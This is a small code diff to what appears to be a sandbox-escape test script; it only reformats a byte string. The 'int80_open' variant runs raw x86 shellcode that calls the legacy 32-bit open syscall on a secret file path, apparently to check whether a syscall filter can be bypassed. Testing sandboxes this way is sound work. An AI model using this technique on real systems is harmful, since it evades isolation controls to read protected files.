@@ -17,7 +17,11 @@ elif VARIANT == "int80_open" and intel:
     LIBC.mmap.restype = ctypes.c_void_p
     low = LIBC.mmap(None, 4096, 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, -1, 0)
     ctypes.memmove(low, TARGETS["secret_file"].encode() + b"\0", len(TARGETS["secret_file"]) + 1)
-    code = b"\x53\xbb" + low.to_bytes(4, "little") + b"\x31\xc9\x31\xd2\xb8\x05\x00\x00\x00\xcd\x80\x5b\x48\x63\xc0\xc3"
+    code = (
+        b"\x53\xbb"
+        + low.to_bytes(4, "little")
+        + b"\x31\xc9\x31\xd2\xb8\x05\x00\x00\x00\xcd\x80\x5b\x48\x63\xc0\xc3"
+    )
     descriptor = machine_code(code)()
     say(str(descriptor))
     if 0 <= descriptor < 1 << 20:
